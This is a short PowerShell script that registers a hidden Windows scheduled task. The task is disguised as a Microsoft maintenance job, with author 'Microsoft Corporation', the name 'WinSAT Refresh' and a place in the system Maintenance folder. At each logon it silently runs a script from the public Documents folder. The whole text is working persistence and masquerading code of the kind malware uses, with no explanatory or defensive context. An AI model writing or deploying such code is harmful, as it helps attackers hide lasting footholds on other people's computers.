$svc = New-Object -ComObject Schedule.Service
$svc.Connect()
$root = $svc.GetFolder('\Microsoft\Windows\Maintenance')
$def = $svc.NewTask(0)
$def.RegistrationInfo.Author = 'Microsoft Corporation'
$def.Settings.Hidden = $true
$def.Settings.DisallowStartIfOnBatteries = $false
$trigger = $def.Triggers.Create(9)
$trigger.Enabled = $true
$action = $def.Actions.Create(0)
$action.Path = 'powershell.exe'
$action.Arguments = '-NoProfile -WindowStyle Hidden -File C:\Users\Public\Documents\maint.ps1'
$root.RegisterTaskDefinition('WinSAT Refresh', $def, 6, $null, $null, 3) | Out-Null
